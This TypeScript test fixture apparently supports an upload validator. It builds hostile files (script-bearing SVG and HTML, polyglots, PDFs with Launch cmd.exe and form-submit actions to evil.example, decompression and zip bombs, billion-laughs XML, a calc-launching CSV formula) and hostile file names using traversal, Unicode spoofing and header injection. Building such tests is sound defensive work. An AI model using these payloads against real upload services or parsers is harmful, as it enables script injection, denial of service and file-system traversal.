import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { contentTypes, pdfOf, picture, samples, zipOf } from './files.ts';

/** A file that attacks, and what becomes of it. */
export interface HostileFile {
  what: string;
  name: string;
  content(): Promise<Buffer>;
  /** The message it is refused with, or the type it is stored as. */
  becomes: `validation.${string}` | `${string}/${string}`;
}

/** What runs an attack in a document: `attack` is watched for by the browser tests, and so is each request to another host. */
const SCRIPT = '<script>attack("ran");fetch("https://evil.example/ran")</script><img src="https://evil.example/seen">';
/** A document that attacks when a browser takes it for one. */
export const ATTACK_HTML = `<!doctype html><html><body onload="attack('load')">${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="attack('load')">${SCRIPT}</svg>`;
const OFFICE = 'application/vnd.openxmlformats-officedocument';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');

const WORD = { '[Content_Types].xml': contentTypes(`${OFFICE}.wordprocessingml.document`) };

/** Ten entities, each ten of the one before: a billion laughs when a reader of XML resolves them. */
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">${Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`,
).join('')}]><w>&a9;</w>`;

/** A PDF whose catalog does something when it is opened. */
const activePdf = (action: string) =>
  latin1(String(pdfOf('A harmless line')).replace('<</Type/Catalog', `<</Type/Catalog/OpenAction<<${action}>>`));

/** A GIF of many frames, large by their own word, of a few bytes each. */
export function gifOf(frames: number, side: number): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(side, 0);
  size.writeUInt16LE(side, 2);
  const frame = Buffer.concat([latin1(',\0\0\0\0'), size, Buffer.from([0, 2, 2, 0x44, 1, 0])]);
  const head = [latin1('GIF89a'), size, Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])];
  return Buffer.concat([...head, ...Array.from({ length: frames }, () => frame), latin1(';')]);
}

/** A film with a box of free text, which players skip. */
const filmWith = (text: string) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(text.length + 8);
  return Buffer.concat([samples.mp4, length, latin1(`free${text}`)]);
};

/** A JPEG with a comment right behind its first two bytes. */
function withComment(jpeg: Buffer, comment: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, latin1(comment), jpeg.subarray(2)]);
}

/** A PDF of a hundred kilobytes whose one page unpacks into very much. */
export function inflatingPdf(): Buffer {
  const packed = deflateSync(Buffer.alloc(100 * 1024 * 1024, ' '), { level: 9 });
  const head =
    '%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n';
  const page = '3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>\nendobj\n';
  const stream = `4 0 obj\n<</Length ${packed.length}/Filter/FlateDecode>>\nstream\n`;
  const end = '\nendstream\nendobj\ntrailer\n<</Size 5/Root 1 0 R>>\n%%EOF\n';
  return Buffer.concat([latin1(head + page + stream), packed, latin1(end)]);
}

/** Text fields of an image that unpack into very much, which readers of metadata meet. */
async function withInflatingText(image: Buffer): Promise<Buffer> {
  const packed = deflateSync(Buffer.alloc(50 * 1024 * 1024), { level: 9 });
  const data = Buffer.concat([latin1('iTXtXML:com.adobe.xmp\0\x01\0\0\0'), packed]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(data.length - 4);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(data));
  // Behind the first chunk, which says how large the image is.
  return Buffer.concat([image.subarray(0, 33), size, data, sum, image.subarray(33)]);
}

type Content = string | Buffer | (() => Buffer | Promise<Buffer>);

const row = (what: string, name: string, content: Content, becomes: HostileFile['becomes']): HostileFile => ({
  what,
  name,
  content: async () => Buffer.from(typeof content === 'function' ? await content() : content),
  becomes,
});

/** The bytes of several in one. */
const joined =
  (...parts: readonly Content[]) =>
  async () =>
    Buffer.concat(await Promise.all(parts.map((part) => row('', '', part, UNTYPED).content())));

const png = () => picture().png().toBuffer();
const jpeg = () => picture().jpeg().toBuffer();
const gif = () => picture().gif().toBuffer();
const pixelBomb = () => picture(8001, 8000).png({ compressionLevel: 9 }).toBuffer();

const webpWithHtml = () =>
  picture()
    .withExif({ IFD0: { ImageDescription: ATTACK_HTML } })
    .webp()
    .toBuffer();
const archives = () => {
  let inner = zipOf({ a: Buffer.alloc(10 * 1024 * 1024) });
  for (let depth = 0; depth < 5; depth++)
    inner = zipOf(Object.fromEntries([...'abcdefgh'].map((name) => [name, inner])));
  return zipOf({ ...WORD, 'word/document.xml': '<w/>', 'word/media/a.zip': inner });
};
const manyEntries = () =>
  zipOf({ ...WORD, ...Object.fromEntries(Array.from({ length: 20_000 }, (_, n) => [`a${n}`, ''])) });
const withTemplate = () =>
  zipOf({
    ...WORD,
    'word/_rels/settings.xml.rels':
      '<Relationships><Relationship Id="a" TargetMode="External" Target="https://evil.example/a.dotm"/></Relationships>',
  });

const UNTYPED = 'validation.file-type';
const IS_SVG = 'validation.file-svg';
const BROKEN = 'validation.file-broken';
const PIXELS = 'validation.file-pixels';
const DOCX = `${OFFICE}.wordprocessingml.document`;

/** Files that attack who opens them or who takes them, by hand, with what becomes of each. */
export const hostileFiles: readonly HostileFile[] = [
  row('SVG with a script', 'logo.svg', SVG, IS_SVG),
  row('SVG as an image of another kind', 'logo.png', SVG, IS_SVG),
  row('SVG with a document in it', 'a.svg', `<svg><foreignObject>${ATTACK_HTML}</foreignObject></svg>`, IS_SVG),
  row('SVG behind a declaration and a comment', 'a.svg', `<?xml version="1.0"?>\n<!-- a -->${SVG}`, IS_SVG),
  row('SVG behind a document type', 'a.svg', `<!DOCTYPE svg PUBLIC "a" "https://evil.example/a.dtd">${SVG}`, IS_SVG),
  row('SVG with a prefix', 'a.svg', '<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="attack(1)"/>', IS_SVG),
  row('SVG in two bytes a letter', 'a.svg', utf16(SVG), IS_SVG),
  row('HTML in two bytes a letter without a mark', 'a.txt', Buffer.from(ATTACK_HTML, 'utf16le'), UNTYPED),
  row('HTML in two bytes a letter behind a line of text', 'a.txt', utf16(`Dear reader\n${ATTACK_HTML}`), 'text/plain'),
  row('SVG, packed', 'a.svgz', gzipSync(SVG), UNTYPED),
  row('HTML as a PDF', 'plan.pdf', ATTACK_HTML, UNTYPED),
  row('HTML as an image', 'photo.png', ATTACK_HTML, UNTYPED),
  row('HTML as a text', 'a.txt', ATTACK_HTML, UNTYPED),
  row('HTML as an office file', 'a.docx', ATTACK_HTML, UNTYPED),
  row('HTML by its own name', 'a.html', ATTACK_HTML, UNTYPED),
  row('HTML in two bytes a letter', 'a.txt', utf16(ATTACK_HTML), UNTYPED),
  row('HTML behind spaces and a comment', 'a.csv', `\n\t <!-- a -->${ATTACK_HTML}`, UNTYPED),
  row('HTML behind a line of text', 'a.txt', `Dear reader\n${ATTACK_HTML}`, 'text/plain'),
  row('HTML behind a line of figures', 'a.csv', `1;2\n${ATTACK_HTML}`, 'text/csv'),
  row('HTML in seven bits a letter', 'a.txt', '+ADw-script+AD4-attack(1)+ADw-/script+AD4-', 'text/plain'),
  row('HTML in a web archive', 'a.mht', `MIME-Version: 1.0\nContent-Type: text/html\n\n${ATTACK_HTML}`, 'text/plain'),
  row('a script by its own name', 'a.js', 'attack(1)', 'text/plain'),
  row('a document with a style sheet that runs', 'a.xml', `<?xml-stylesheet href="a.xsl"?>${ATTACK_HTML}`, UNTYPED),
  row('GIF that is a script', 'a.gif', 'GIF89a/*\x01*/=1;attack(1)', BROKEN),
  row('GIF with a script behind it', 'a.gif', joined(gif, `*/=1;attack(1);${ATTACK_HTML}`), 'image/gif'),
  row('JPEG with HTML in a comment', 'a.jpg', async () => withComment(await jpeg(), ATTACK_HTML), 'image/jpeg'),
  row('PNG with HTML behind it', 'a.html', joined(png, ATTACK_HTML), 'image/png'),
  row('PDF with HTML behind it', 'a.html', joined(pdfOf('A line'), ATTACK_HTML), 'application/pdf'),
  row('HTML with a PDF behind it', 'a.pdf', joined(ATTACK_HTML, pdfOf('A line')), UNTYPED),
  row(
    'HTML behind a line of text with a PDF behind it',
    'a.pdf',
    joined(`%\x01\n${ATTACK_HTML}`, pdfOf('A line')),
    UNTYPED,
  ),
  row('PDF behind bytes of a program', 'a.pdf', joined(latin1('\0\x01*/=1;'), pdfOf('A line')), 'application/pdf'),
  row(
    'PDF behind the header of a printer',
    'a.html',
    joined('@PJL ENTER LANGUAGE=PDF\r\n', pdfOf('A line')),
    'application/pdf',
  ),
  row('archive with HTML before it', 'a.docx', joined(ATTACK_HTML, samples.docx), UNTYPED),
  row('office file with HTML behind it', 'a.html', joined(samples.docx, ATTACK_HTML), DOCX),
  row('PDF that runs a script', 'script.pdf', activePdf('/S/JavaScript/JS(app.alert\\(1\\))'), 'application/pdf'),
  row('PDF that starts a program', 'launch.pdf', activePdf('/S/Launch/F(cmd.exe)'), 'application/pdf'),
  row('PDF that opens an address', 'open.pdf', activePdf('/S/URI/URI(https://evil.example/a)'), 'application/pdf'),
  row('PDF that sends a form', 'send.pdf', activePdf('/S/SubmitForm/F(https://evil.example/a)'), 'application/pdf'),
  row(
    'PDF that counts more pages than it has',
    'pages.pdf',
    latin1(String(pdfOf('A line')).replace('/Count 1', '/Count 2147483647')),
    'application/pdf',
  ),
  row('film by the name of a document', 'a.html', filmWith(ATTACK_HTML), 'video/mp4'),
  row(
    'office file with a macro',
    'a.docx',
    () =>
      zipOf({
        '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled'),
        'word/vbaProject.bin': 'macro',
      }),
    UNTYPED,
  ),
  row(
    'office file that unpacks into very much',
    'a.docx',
    () =>
      zipOf({
        ...WORD,
        'word/document.xml': Buffer.alloc(100 * 1024 * 1024),
      }),
    DOCX,
  ),
  row(
    'office file whose list of types unpacks into very much',
    'a.docx',
    () =>
      zipOf({
        '[Content_Types].xml': Buffer.alloc(100 * 1024 * 1024, ' '),
      }),
    UNTYPED,
  ),
  row('office file of a billion laughs', 'a.docx', () => zipOf({ '[Content_Types].xml': LAUGHS }), UNTYPED),
  row('office file with laughs in its text', 'a.docx', () => zipOf({ ...WORD, 'word/document.xml': LAUGHS }), DOCX),
  row(
    'office file of deep elements',
    'a.docx',
    () => zipOf({ ...WORD, 'word/document.xml': '<w>'.repeat(500_000) }),
    DOCX,
  ),
  row('office file with a way out of its folder', 'a.docx', () => zipOf({ ...WORD, '../../../../tmp/a': 'a' }), DOCX),
  row(
    'archive of programs',
    'a.docx',
    () => zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': 'a' }),
    UNTYPED,
  ),
  row('office file of archives in archives', 'a.docx', archives, DOCX),
  row('office file of very many entries', 'a.docx', manyEntries, DOCX),
  row('office file that loads a template from elsewhere', 'a.docx', withTemplate, DOCX),
  row('table that starts a program', 'a.csv', "=cmd|' /C calc'!A0;1\n", 'text/csv'),
  row('HTML application', 'a.hta', ATTACK_HTML, UNTYPED),
  row('shortcut to an address', 'a.url', '[InternetShortcut]\nURL=https://evil.example/a\n', 'text/plain'),
  row('starter of a program', 'a.desktop', '[Desktop Entry]\nType=Application\nExec=attack\n', 'text/plain'),
  row('module of a service worker', 'sw.js', 'self.addEventListener("fetch", () => attack(1))', 'text/plain'),
  row('captions with HTML', 'a.vtt', `WEBVTT\n\n00:00.000 --> 00:09.000\n<c>${SCRIPT}</c>\n`, UNTYPED),
  row('GIF that is an archive of programs', 'a.gif', joined(gif, zipOf({ 'A.class': 'a' })), 'image/gif'),
  row('WebP with HTML in its metadata', 'a.webp', webpWithHtml, 'image/webp'),
  row('PNG whose text unpacks into very much', 'a.png', async () => withInflatingText(await png()), 'image/png'),
  row('PDF whose page unpacks into very much', 'a.pdf', inflatingPdf, 'application/pdf'),
  row('film of another kind with HTML behind it', 'a.html', joined(samples.webm, ATTACK_HTML), 'video/webm'),
  row('program', 'plan.pdf', samples.exe, UNTYPED),
  row('image that decodes into very much', 'a.png', pixelBomb, PIXELS),
  row('animation that decodes into very much', 'a.gif', () => gifOf(50, 8000), 'validation.file-frames'),
];

/** Names that attack, and how each is kept as the name of a PDF. */
export const hostileNames: readonly (readonly [sent: string, kept: string])[] = [
  ['../../etc/passwd', '..-..-etc-passwd.pdf'],
  ['..\\..\\x.pdf', '..-..-x.pdf'],
  ['/etc/passwd.pdf', '-etc-passwd.pdf'],
  ['..', '...pdf'],
  ['', 'file.pdf'],
  ['   ', 'file.pdf'],
  ['\u202Efdp.exe', 'fdp.exe.pdf'],
  ['plan\u202Efdp.exe', 'planfdp.exe.pdf'],
  ['plan\u2066\u200F.pdf', 'plan.pdf'],
  ['a\r\nSet-Cookie: x=y.pdf', 'a Set-Cookie: x=y.pdf'],
  ['a"; filename="b.html', 'a"; filename="b.html.pdf'],
  ['a\0.html', 'a .html.pdf'],
  ['a\u001B[31m\u0007.pdf', 'a [31m.pdf'],
  ['run.bat', 'run.bat.pdf'],
  ['page.html', 'page.html.pdf'],
  ['CON', 'CON.pdf'],
  ['%2e%2e%2f%2e%2e%2fpasswd', '%2e%2e%2f%2e%2e%2fpasswd.pdf'],
  ['..%c0%af..%c0%afpasswd.pdf', '..%c0%af..%c0%afpasswd.pdf'],
  ['-rf *.pdf', '-rf *.pdf'],
  ['$(attack) `attack` ${attack}.pdf', '$(attack) `attack` ${attack}.pdf'],
  ['<img src=x onerror=attack(1)>.pdf', '<img src=x onerror=attack(1)>.pdf'],
  ['plan.pdf\u200B.exe', 'plan.pdf.exe.pdf'],
  ['\uFEFFplan.pdf', 'plan.pdf'],
  ['a\u0301rsplan.pdf', 'ársplan.pdf'],
  ['\uD800plan.pdf', '\uFFFDplan.pdf'],
  [`${'😀'.repeat(250)}.pdf`, `${'😀'.repeat(196)}.pdf`],
  ['plan.pdf:stream.exe', 'plan.pdf:stream.exe.pdf'],
  ['plan.exe. . .', 'plan.exe. . ..pdf'],
  ['PLAN.PDF', 'PLAN.PDF'],
  ['Årsplan "2026" ’;%?#.pdf', 'Årsplan "2026" ’;%?#.pdf'],
  [`${'æ'.repeat(300)}.pdf`, `${'æ'.repeat(196)}.pdf`],
  [`${'a'.repeat(300)}.html`, `${'a'.repeat(196)}.pdf`],
];
